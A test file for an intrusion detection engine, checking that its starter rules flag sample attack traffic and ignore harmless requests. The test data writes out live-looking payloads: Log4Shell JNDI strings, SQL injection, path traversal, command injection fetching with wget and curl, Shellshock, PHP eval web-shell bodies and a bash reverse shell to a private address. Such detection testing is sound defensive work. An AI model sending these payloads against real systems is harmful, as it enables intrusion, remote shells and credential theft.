/** biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are attacks, not templates */
import { createEngine, type Match } from "@peccary/engine";
import { parseRules } from "@peccary/engine/rules";
import { describe, expect, test } from "vitest";
import { readRules, STARTER_RULES } from "./rule-files.ts";
import { exchange } from "./testing/capture.ts";

const parsed = parseRules(await readRules([STARTER_RULES], "/"));

/** The sids that a conversation sets off. */
function sids(frames: readonly Uint8Array[]): number[] {
  const found = new Set<number>();
  const engine = createEngine({
    rules: parsed.ruleSet,
    onFinding: (finding) => finding.type === "match" && found.add((finding as Match).rule.sid),
  });
  for (const [number, frame] of frames.entries())
    engine.packet(frame, 0, frame.length, frame.length, 1_700_000_000_000_000 + number, 1, 0, -1);
  engine.finish();
  return [...found].sort((a, b) => a - b);
}

const get = (uri: string, ...headers: string[]) =>
  exchange([`GET ${uri} HTTP/1.1`, "Host: shop", ...headers, "Accept: */*", "", ""].join("\r\n"));
const post = (uri: string, body: string, ...headers: string[]) =>
  exchange(
    [
      `POST ${uri} HTTP/1.1`,
      "Host: shop",
      ...headers,
      "Accept: */*",
      `Content-Length: ${body.length}`,
      "",
      body,
    ].join("\r\n"),
  );

test("every rule loads", () => {
  expect(parsed.problems).toEqual([]);
  expect(parsed.total).toBeGreaterThanOrEqual(40);
});

test("every rule has its own number, a classtype and a technique", () => {
  const facts = parsed.ruleSet.rules.map((rule) => rule.facts);
  expect(new Set(facts.map(({ sid }) => sid)).size).toBe(facts.length);
  for (const { sid, rev, classification, references, metadata } of facts) {
    expect(sid).toBeGreaterThanOrEqual(1_000_000);
    expect({ sid, rev: rev >= 1, classification }).toEqual({
      sid,
      rev: true,
      classification: expect.any(String),
    });
    expect(references.join()).toContain("attack.mitre.org");
    expect(metadata.join()).toMatch(/mitre_tactic_name \w+,mitre_technique_id T\d+/);
  }
});

describe("what it is for sets off one rule", () => {
  test.each([
    [1000001, post("/secid_canceltoken.cgi", "", "X-CMD: Test", "X-KEY: Test")],
    [1000002, post("/", "smk=1234", "User-Agent: Mozilla/4.0")],
    [1000003, get("/cmd.exe")],
    [1000003, get("/scripts/CMD.exe?/c+dir")],
    [1000004, get("/NessusTest")],
    [1000010, get("/", "User-Agent: ${jndi:ldap://a/b}")],
    [1000010, get("/", "X-Api: ${JNDI:ldap://a/b}")],
    [1000010, get("/", "User-Agent: %24%7Bjndi%3Aldap://a/b}")],
    [1000010, get("/", "User-Agent: $%7bjndi:ldap://a/b}")],
    [1000012, get("/?q=${jndi:ldap://a/b}")],
    [1000012, get("/?q=%24%7Bjndi%3aldap%3a//a/b%7d")],
    [1000013, post("/", "name=${jndi:ldap://a/b}")],
    [1000014, get("/", "User-Agent: ${${lower:j}ndi:ldap://a/b}")],
    [1000020, get("/", "User-Agent: sqlmap/1.7")],
    [1000021, get("/", "User-Agent: Mozilla/5.00 (Nikto/2.5)")],
    [1000022, get("/", "User-Agent: Mozilla/5.0 (compatible; Nmap Scripting Engine)")],
    [1000023, get("/", "User-Agent: masscan/1.3")],
    [1000024, get("/", "User-Agent: gobuster/3.6")],
    [1000025, get("/", "User-Agent: DirBuster-1.0")],
    [1000026, get("/", "User-Agent: ZmEu")],
    [1000027, get("/", "User-Agent: Nuclei - Open-source")],
    [1000028, get("/", "User-Agent: WPScan v3")],
    [1000029, get("/", "User-Agent: Mozilla/5.0 zgrab/0.x")],
    [1000040, get("/show?file=/etc/passwd")],
    [1000041, get("/static/../../../secret")],
    [1000042, get("/static/%2e%2e%2f%2e%2e%2fsecret")],
    [1000043, get("/item?id=1%20UNION%20ALL%20SELECT%20password")],
    [1000043, get("/item?id=1/**/union/**/select/**/1")],
    [1000044, post("/item", "id=1+union+select+password")],
    [1000045, get("/item?id=1%20and%20sleep(5)")],
    [1000046, get("/cgi-bin/x?cmd=/bin/bash")],
    [1000047, get("/ping?host=1.1.1.1;wget%20http://a/b")],
    [1000048, get("/ping?host=1.1.1.1%7Ccurl%20http://a/b")],
    [1000049, get("/?class.module.classLoader.resources=x")],
    [1000050, post("/", "class.module.classLoader.resources.context=x")],
    [1000051, get("/", "Content-Type: %{(#_memberAccess=1)}")],
    [1000052, get("/a.action?redirect:$%7B%23_memberAccess%7D")],
    [1000053, get("/", "User-Agent: () { :;}; echo hello")],
    [1000060, get("/uploads/c99shell.php")],
    [1000061, post("/x.php", "a=eval(base64_decode($_POST[z]))")],
    [1000062, post("/x.php", "pass=@eval(1)")],
    [1000070, post("/submit.php?id=12345", "data", "Content-Type: application/octet-stream")],
    [1000071, get("/j.ad", `Cookie: ${"A".repeat(171)}=`, "User-Agent: Mozilla/5.0 (compatible; MSIE 9.0)")],
    [1000081, get("/fetch?url=http://169.254.169.254/")],
    [1000082, get("/show?f=/var/run/secrets/kubernetes.io/serviceaccount/token")],
    [1000083, get("/runningpods/")],
    [1000085, post("/v1.41/containers/create", "{}")],
    [1000086, exchange("POST /api HTTP/1.1\r\nHost: pastebin.com\r\nContent-Length: 1\r\n\r\nx")],
  ])("%i", (sid, frames) => expect(sids(frames)).toEqual([sid]));
});

describe("on connections that are no HTTP", () => {
  test.each([
    [1000063, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n"],
    [1000064, "uid=0(root) gid=0(root) groups=0(root)\n"],
    [1000065, "Microsoft Windows [Version 10.0.19045]\r\n\r\nC:\\Users\\x>"],
    [1000072, '{"id": 1, "method": "mining.subscribe", "params": []}\n'],
    [1000073, '{"id":1,"method":"login","params":{"agent":"XMRig/6.20"}}\n'],
    [1000087, "\x16\x03\x01\x00\x30\x01\x00\x00\x2c\x03\x03\x00\x00\x00\x0btransfer.sh"],
    [1000088, "-----BEGIN RSA PRIVATE KEY-----\nMIIE\n"],
  ])("%i", (sid, text) => expect(sids(exchange(text, ""))).toEqual([sid]));
});

test("a file is looked at on its way to the client", () => {
  const body = "EICAR-STANDARD-ANTIVIRUS-TEST-FILE";
  const answer = `HTTP/1.1 200 OK\r\nContent-Length: ${body.length}\r\n\r\n${body}`;
  expect(sids(exchange("GET / HTTP/1.1\r\nHost: shop\r\n\r\n", answer))).toEqual([1000089]);
});

describe("what is harmless sets off none", () => {
  test.each([
    ["a page", get("/")],
    ["a form", post("/cart", "product=1&count=2", "User-Agent: Mozilla/5.0")],
    ["words that attacks use too", get("/blog/the-union-of-workers-selects-a-curly-mascot?sleep=yes")],
    ["a header of its own", get("/", "X-CMD: Test")],
    ["the old browser, another form", post("/", "name=smk=1", "User-Agent: Mozilla/4.0")],
    ["shell-like words", get("/docs/bin/shortcuts")],
  ])("%s", (_what, frames) => expect(sids(frames)).toEqual([]));
});
